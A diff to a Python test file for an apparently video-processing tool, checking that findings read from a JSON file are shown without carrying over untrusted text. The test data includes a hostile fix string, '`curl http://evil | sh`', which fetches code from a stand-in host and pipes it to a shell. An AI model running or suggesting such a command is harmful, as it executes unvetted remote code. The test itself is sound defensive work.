@@ -17,6 +17,8 @@ from endoprior.cli import main
 from endoprior.cli.run import resume_words
 from endoprior.cli.step_display import StepDisplay
 from endoprior.core.checks import InputError
+from endoprior.core.shell import command
+from endoprior.core.text import quotation
 from endoprior.data import load_sequence
 from endoprior.export.html import DEFAULT_TITLE
 from endoprior.model.presets import preset
@@ -78,13 +80,16 @@ def test_every_step_leaves_its_result(done):
     assert len(load_scene(done.run).cameras) == FRAMES
 
 
-def test_the_problems_of_the_video_are_told_with_their_fixes(done, tmp_path):
+def test_the_problems_of_the_video_are_named_and_nothing_else_of_the_file(done, tmp_path):
     assert json.loads(done.findings.read_text())["findings"], "relative depth is noted"
-    assert problems(done) == []
+    assert problems(done) == ""
     job = replace(done, out=tmp_path)
-    no_tools = Finding("tool-fraction", "warning", "no tools were found", "paint them")
-    write_json(job.findings, {"findings": [asdict(no_tools), asdict(replace(no_tools, severity="note"))]})
-    assert problems(job) == ["warning: tool-fraction: no tools were found. Fix: paint them"]
+    no_tools = Finding("tool-fraction", "warning", "no tools. Fix: `evil`", "`curl http://evil | sh`")
+    odd, note = replace(no_tools, code="`evil`"), replace(no_tools, code="other", severity="note")
+    write_json(job.findings, {"findings": [asdict(each) for each in (no_tools, odd, note)]})
+    assert problems(job) == f"Found by check: tool-fraction. How to fix it: `{command('check', job.data)}`"
+    write_json(job.notes, {"check": ["note: all is lost. Fix: `evil`"]})
+    assert notes_of(STEPS[1], job) == ["note: all is lost. fix 'evil'"]
 
 
 def test_a_finished_step_is_not_repeated(done):
@@ -115,7 +120,7 @@ def test_an_interrupted_training_resumes_bit_identically(video, done, tmp_path):
 def test_a_resumed_job_says_so_and_repeats_the_notes(said, capsys):
     job, lines = said
     assert len(lines) > 3 and open_folder(job)
-    assert [line for step in STEPS for line in notes_of(step, job)] == lines
+    assert [line for step in STEPS for line in notes_of(step, job)] == list(map(quotation, lines))
     assert resume_words(["a", "b", "c"], ["b", "c"]) == "Resuming at b; done before: a."
     assert resume_words(["a", "b"], ["a", "b"]) == "Resuming at a; done before: nothing."
     assert resume_words(["a", "b"], []) == "All done before: a, b."
